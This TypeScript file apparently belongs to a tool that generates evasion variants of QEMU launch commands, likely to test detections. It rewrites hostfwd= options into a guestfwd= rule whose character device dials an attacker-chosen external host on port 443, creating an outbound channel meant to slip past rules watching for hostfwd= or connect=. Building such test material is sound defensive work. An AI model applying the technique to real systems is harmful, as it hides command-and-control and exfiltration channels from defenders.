// Row 15: `guestfwd=` instead of `hostfwd=` — connections the guest makes to 10.0.2.100:<port> are
// handed to a character device that dials the operator: an outbound channel with neither hostfwd=
// nor connect= on the command line.
import { hostPort, prop, type GuestFwd } from '../qemu/values.js';
import { cloneLaunch, userNetdevsWithHostfwd, withoutProps } from './network-options.js';
import { EVASION_TABLE, type Variant } from './variant.js';
import { QEMU_INVOCATION } from './public-sources.js';
import { ATTACKER_ADDRESS_SCHEMA, optionalAddress } from '../populations/population.js';

export const guestfwdChannel: Variant = {
  id: 'guestfwd-channel',
  title: 'guestfwd= outbound channel to an external host instead of hostfwd=',
  rows: [15],
  summary: '-netdev user,guestfwd=tcp:10.0.2.100:<p>-tcp:<external ip>:443: the guest reaches the operator through a chardev QEMU opens.',
  os: ['windows', 'linux', 'macos'],
  acceptance: 'qemu-7.2',
  sources: [EVASION_TABLE, { ...QEMU_INVOCATION, title: 'QEMU documentation, Invocation: -netdev user,guestfwd=' }],
  parameterSchema: { type: 'object', additionalProperties: false, properties: { port: { type: 'integer', minimum: 1, maximum: 65535 }, address: ATTACKER_ADDRESS_SCHEMA } },
  check(launch) {
    return userNetdevsWithHostfwd(launch.invocation).length > 0 ? null : 'needs -netdev user with hostfwd=';
  },
  apply(launch, { rng, params }) {
    const out = cloneLaunch(launch);
    const port = typeof params.port === 'number' ? params.port : 443;
    for (const netdev of userNetdevsWithHostfwd(out.invocation)) {
      const forward: GuestFwd = {
        $v: 'guestfwd',
        server: '10.0.2.100',
        port: rng.int(1024, 9999),
        target: { kind: 'chardev', spec: { $v: 'chardev', backend: 'tcp', address: hostPort(optionalAddress(params) ?? rng.documentationIpv4(), port, 'connect'), flags: [] } },
      };
      netdev.props = [...withoutProps(netdev.props, 'hostfwd'), prop('guestfwd', forward)];
    }
    return out;
  },
};
